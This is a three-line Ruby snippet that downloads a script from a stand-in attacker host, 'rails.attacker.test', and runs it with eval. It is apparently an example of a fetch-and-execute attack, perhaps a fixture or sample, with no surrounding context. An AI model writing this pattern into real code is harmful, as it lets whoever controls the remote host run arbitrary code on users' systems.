require 'net/http'
code = Net::HTTP.get(URI('https://rails.attacker.test/templates/gen.rb'))
eval(code)
